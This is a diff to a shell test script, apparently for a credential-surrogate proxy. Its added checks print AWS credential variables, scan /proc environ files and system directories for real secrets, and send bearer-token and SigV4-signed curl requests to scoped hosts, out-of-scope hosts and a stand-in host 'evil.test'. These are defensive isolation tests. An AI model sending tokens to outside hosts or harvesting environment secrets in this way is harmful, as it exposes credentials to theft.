@@ -162,6 +162,9 @@ say ENV client "$(ip -4 -o addr show scope global | awk '{split($4,a,"/"); print
 
 # --- SEC-01: real values, replacement map and CA key absent from the client
 ( say SEC-01 surrogate "$TOK"
+  say SEC-01 aws-key-id "$AWS_ACCESS_KEY_ID"
+  say SEC-01 aws-secret "$AWS_SECRET_ACCESS_KEY"
+  say SEC-01 aws-session "$AWS_SESSION_TOKEN"
   say SEC-01 real-slice-in-env "$(grep -c -F "$REAL_SLICE" /proc/1/environ /proc/self/environ | awk -F: '{s+=$2} END {print s+0}')"
   say SEC-01 real-slice-in-files "$(grep -rIl -F "$REAL_SLICE" /etc /run /tmp /var /root /opt /home /srv /mnt /media 2>/dev/null | wc -l)"
   say SEC-01 ca-private-keys "$(cat /usr/local/share/ca-certificates/*.crt | grep -c 'PRIVATE KEY')"
@@ -176,7 +179,11 @@ say ENV client "$(ip -4 -o addr show scope global | awk '{split($4,a,"/"); print
   say SEC-02 tls-failure "$(code s2b -H "Authorization: Bearer $TOK" "https://tls.scoped.test/pub/x?rq=s2b")"
   say SEC-02 blocked-with-surrogate "$(code s2c -H "Authorization: Bearer $TOK" "https://evil.test/x?rq=s2c")"
   for id in s2a s2b s2c; do say SEC-02 "body-$id" "$(tr '\n' ' ' < /tmp/body.$id)"; done
-  say SEC-02 open-host-surrogate "$(code s2d -H "Authorization: Bearer $TOK" "https://open.test/pub/out-of-scope?rq=s2d")" ) &
+  say SEC-02 open-host-surrogate "$(code s2d -H "Authorization: Bearer $TOK" "https://open.test/pub/out-of-scope?rq=s2d")"
+  aws() { code "$1" --aws-sigv4 "aws:amz:us-east-1:s3" --user "$AWS_ACCESS_KEY_ID:$AWS_SECRET_ACCESS_KEY" -H "x-amz-security-token: $AWS_SESSION_TOKEN" "$2"; }
+  say SEC-02 aws-resigned "$(aws aws1 "https://s3.scoped.test/bucket/key?rq=aws1")"
+  say SEC-02 aws-out-of-scope "$(aws aws2 "https://open.test/pub/aws?rq=aws2")"
+  say SEC-02 body-aws1 "$(tr '\n' ' ' < /tmp/body.aws1)" ) &
 
 # --- host-side checks while both runs are live (inspect, /proc scans, proxy sysctls)
 ( echo "HOSTCHECK ready"
